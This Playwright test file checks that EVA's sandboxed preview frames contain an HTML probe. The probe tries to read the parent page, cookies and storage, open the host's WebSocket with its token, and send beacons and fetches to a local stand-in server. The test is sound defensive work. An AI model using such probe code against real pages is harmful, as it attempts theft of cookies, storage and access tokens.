// Live previews of an answer's ```html and ```svg blocks: real browser host, real Chromium. The answer comes from an
// imported conversation (the tiny model cannot be made to write HTML), so its blocks are exactly the test's. The
// HTML block is a probe: its script tries every way out of the frame (the page's DOM, its cookies and storage, the
// host's token, the host's WebSocket even with the token written into it, the host and a server of the test's own
// by fetch, picture, beacon, popup and navigation) and posts what it found to the page, where the test reads it.
import { expect, test, type Page } from '@playwright/test';
import { chmod, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { repoRoot, startHost, type RunningHost } from '@test-support/host-process';
import { connectHost } from '@test-support/ws-client';
import { PREVIEW_DOCUMENT_HEAD } from '@shared/previews/preview-policy';
import { assistantMessages, loadTinyModel } from './steps';

let host: RunningHost;
let bait: Server;
let baitUrl: string;
/** every request the test's own server received */
const baitRequests: string[] = [];
let openerRecord: string;

const SVG = [
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 240 120" width="480" height="240">',
  '  <rect width="240" height="120" rx="12" fill="#1f6feb"/>',
  '  <circle cx="60" cy="60" r="34" fill="#ffd33d"/>',
  '  <text x="110" y="68" font-family="sans-serif" font-size="22" fill="#fff">EVA</text>',
  '</svg>',
].join('\n');

const DIAGRAM = 'graph LR\n  Answer["An answer"] --> Preview["Its preview, sandboxed"]';

/** The probe; `host` is the host's origin, `ws` its WebSocket URL with the real token. */
function probe(hostOrigin: string, ws: string): string {
  return `<!doctype html>
<html><head><title>probe</title>
<style>body { font: 15px sans-serif; margin: 16px; } li.held { color: #1a7f37; } li.reached { color: #cf222e; }</style>
</head><body>
<h2>This page runs in EVA's preview sandbox</h2>
<ul id="found"></ul>
<script>
const tryRead = (read) => { try { return 'read: ' + String(read()); } catch (error) { return 'threw ' + error.name; } };
const tried = (promise) => promise.then(() => 'reached', (error) => 'failed: ' + error.name);
const loaded = (url) => new Promise((resolve) => {
  const picture = new Image();
  picture.onload = () => resolve('reached');
  picture.onerror = () => resolve('failed');
  picture.src = url;
});
const socket = (url) => new Promise((resolve) => {
  try {
    const ws = new WebSocket(url);
    ws.onopen = () => resolve('reached');
    ws.onerror = () => resolve('failed');
  } catch (error) { resolve('threw ' + error.name); }
});
(async () => {
  const report = {
    probe: true,
    origin: self.origin,
    parentDocument: tryRead(() => window.parent.document.title),
    parentLocation: tryRead(() => window.parent.location.href),
    topStorage: tryRead(() => window.top.localStorage.length),
    cookie: tryRead(() => document.cookie),
    localStorage: tryRead(() => localStorage.getItem('eva-probe')),
    sessionStorage: tryRead(() => sessionStorage.length),
    seen: [location.href, document.baseURI, document.referrer, window.name, [...location.ancestorOrigins].join(' ')],
    popup: tryRead(() => window.open(${JSON.stringify(baitUrl + '/popup')})),
    beacon: tryRead(() => navigator.sendBeacon(${JSON.stringify(baitUrl + '/beacon')}, 'x')),
    fetchHost: await tried(fetch(${JSON.stringify(hostOrigin + '/')})),
    fetchBait: await tried(fetch(${JSON.stringify(baitUrl + '/fetch')}, { mode: 'no-cors' })),
    pictureBait: await loaded(${JSON.stringify(baitUrl + '/picture.png')}),
    webSocket: await socket(${JSON.stringify(ws)}),
  };
  for (const [name, value] of Object.entries(report)) {
    const item = document.createElement('li');
    item.className = value === 'reached' ? 'reached' : 'held';
    item.textContent = name + ': ' + (Array.isArray(value) ? value.length + ' addresses' : value);
    document.getElementById('found').append(item);
  }
  parent.postMessage(report, '*');
})();
// Last, when the test says so (it ends this document): away to the test's server.
addEventListener('message', (event) => {
  if (event.data === 'navigate') location.href = ${JSON.stringify(baitUrl + '/navigate')};
});
</script>
</body></html>`;
}

test.beforeAll(async () => {
  bait = createServer((req, res) => {
    baitRequests.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/plain' });
    res.end('reached');
  });
  await new Promise<void>((resolve) => bait.listen(0, '127.0.0.1', resolve));
  baitUrl = `http://127.0.0.1:${(bait.address() as AddressInfo).port}`;

  // The system's opener, standing in: it writes down the file it was asked to open.
  const bin = await mkdtemp(join(tmpdir(), 'eva-e2e-opener-'));
  openerRecord = join(bin, 'opened.txt');
  const opener = join(bin, process.platform === 'darwin' ? 'open' : 'xdg-open');
  await writeFile(opener, `#!/bin/sh\nprintf '%s' "$1" > '${openerRecord}'\n`);
  await chmod(opener, 0o755);
  host = await startHost({ PATH: `${bin}${delimiter}${process.env.PATH ?? ''}` });

  const origin = new URL(host.url).origin;
  const ws = `ws://${new URL(host.url).host}/ws?token=${new URL(host.url).searchParams.get('token')}`;
  const answer = [
    'A picture:',
    '```svg\n' + SVG + '\n```',
    'And a page:',
    '```html\n' + probe(origin, ws) + '\n```',
    'And a diagram:',
    '```mermaid\n' + DIAGRAM + '\n```',
  ].join('\n\n');
  const client = await connectHost(host.url);
  await client.invoke('history:import', {
    text: JSON.stringify([
      { role: 'user', content: 'a picture and a page, please' },
      { role: 'assistant', content: answer },
    ]),
  });
  client.close();
});

test.afterAll(async () => {
  await new Promise<void>((resolve) => bait.close(() => resolve()));
  expect(await host.stop()).toBe(0);
});

/** The page keeps what the frames post and the policy violations its frames cause (test-only listeners). */
async function listen(page: Page): Promise<void> {
  await page.evaluate(() => {
    const seen = window as unknown as { reports: unknown[]; violations: string[] };
    seen.reports = [];
    seen.violations = [];
    window.addEventListener('message', (event) => seen.reports.push(event.data));
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.violations.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
}

test('previews of imported html and svg blocks: sandboxed, cut off from the page, the token and every network', async ({
  page,
  context,
}) => {
  const token = new URL(host.url).searchParams.get('token') ?? '';
  await page.goto(host.url);
  await context.addCookies([{ name: 'eva_probe', value: 'cookie-secret', url: new URL(host.url).origin }]);
  await page.evaluate(() => localStorage.setItem('eva-probe', 'storage-secret'));
  await loadTinyModel(page);
  await page.getByTestId('history-item').first().getByTestId('history-open').click();
  const answer = assistantMessages(page).last();
  await expect(answer.locator('.code-block')).toHaveCount(3);
  await listen(page);
  const [svgBlock, htmlBlock] = [answer.locator('.code-block').nth(0), answer.locator('.code-block').nth(1)];

  // The picture, from the keyboard: the toggle says what it controls.
  const svgToggle = svgBlock.getByTestId('code-preview-toggle');
  await svgToggle.focus();
  await page.keyboard.press('Enter');
  await expect(svgToggle).toHaveAttribute('aria-expanded', 'true');
  const svgFrame = svgBlock.getByTestId('preview-frame');
  await expect(svgFrame).toHaveAttribute('sandbox', 'allow-scripts');
  await expect(svgBlock.frameLocator('[data-testid="preview-frame"]').locator('svg circle')).toBeVisible();
  await svgBlock.scrollIntoViewIfNeeded();
  await page.screenshot({ path: join(repoRoot, 'docs', 'preview-svg.png') });

  // Save as: the picture as the SVG it is.
  const saving = page.waitForEvent('download');
  await svgBlock.getByTestId('preview-save').click();
  const saved = await saving;
  expect(saved.suggestedFilename()).toBe('picture.svg');
  expect(await readFile((await saved.path()) ?? '', 'utf8')).toBe(SVG);

  // The page: its script runs, finds every way out closed, and says so.
  await htmlBlock.getByTestId('code-preview-toggle').click();
  const frame = htmlBlock.frameLocator('[data-testid="preview-frame"]');
  await expect(frame.locator('#found li')).toHaveCount(15);
  await htmlBlock.getByTestId('code-preview').scrollIntoViewIfNeeded();
  await page.screenshot({ path: join(repoRoot, 'docs', 'preview-html.png') });
  const report = await page.evaluate(() => (window as unknown as { reports: { probe?: boolean }[] }).reports[0]);
  expect(report).toMatchObject({
    probe: true,
    origin: 'null',
    parentDocument: 'threw SecurityError',
    parentLocation: 'threw SecurityError',
    topStorage: 'threw SecurityError',
    cookie: 'threw SecurityError',
    localStorage: 'threw SecurityError',
    sessionStorage: 'threw SecurityError',
    popup: 'read: null',
    fetchHost: 'failed: TypeError',
    fetchBait: 'failed: TypeError',
    pictureBait: 'failed',
    webSocket: 'failed',
  });
  // Nothing the frame can read carries the token (the frame's own address is the app's frame file, no query).
  const seen = (report as unknown as { seen: string[] }).seen;
  expect(seen[0]).toBe(`${new URL(host.url).origin}/preview-frame.html`);
  for (const value of seen) expect(value).not.toContain(token);

  expect(context.pages()).toHaveLength(1);

  // Its last try, navigating its frame to the test's server, is refused by the page's policy.
  await htmlBlock
    .getByTestId('preview-frame')
    .evaluate((element) => (element as HTMLIFrameElement).contentWindow?.postMessage('navigate', '*'));
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { violations: string[] }).violations))
    .toContainEqual(`frame-src ${baitUrl}`);
  expect(baitRequests).toEqual([]);
  expect(page.url()).toBe(host.url);
});

test('Open in browser asks first, then writes the preview with its policy first and opens it (stand-in opener)', async ({
  page,
}) => {
  await page.goto(host.url);
  await loadTinyModel(page);
  await page.getByTestId('history-item').first().getByTestId('history-open').click();
  const svgBlock = assistantMessages(page).last().locator('.code-block').first();
  await svgBlock.getByTestId('code-preview-toggle').click();
  const preview = svgBlock.getByTestId('code-preview');

  // Full size and back, with the keyboard.
  await preview.getByTestId('preview-full').click();
  await expect(preview).toHaveAttribute('data-full', 'true');
  await page.keyboard.press('Escape');
  await expect(preview).toHaveAttribute('data-full', 'false');

  // Cancel (which has the focus) opens nothing.
  await preview.getByTestId('preview-open').click();
  await expect(page.getByTestId('preview-open-cancel')).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(page.getByTestId('preview-open-dialog')).toBeHidden();
  expect(existsSync(openerRecord)).toBe(false);

  await preview.getByTestId('preview-open').click();
  await page.getByTestId('preview-open-confirm').click();
  await expect.poll(() => existsSync(openerRecord)).toBe(true);
  const opened = await readFile(openerRecord, 'utf8');
  expect(opened.endsWith('preview.html')).toBe(true);
  const written = await readFile(opened, 'utf8');
  expect(written.startsWith(PREVIEW_DOCUMENT_HEAD)).toBe(true);
  expect(written).toContain(SVG);
  expect(baitRequests).toEqual([]);

  // A diagram: mermaid, fetched with the first one, draws it inside the frame.
  const diagramBlock = assistantMessages(page).last().locator('.code-block').nth(2);
  await diagramBlock.getByTestId('code-preview-toggle').click();
  const diagram = diagramBlock.frameLocator('[data-testid="preview-frame"]').locator('#diagram svg');
  await expect(diagram).toBeVisible();
  await expect(diagram).toContainText('Its preview, sandboxed');
});
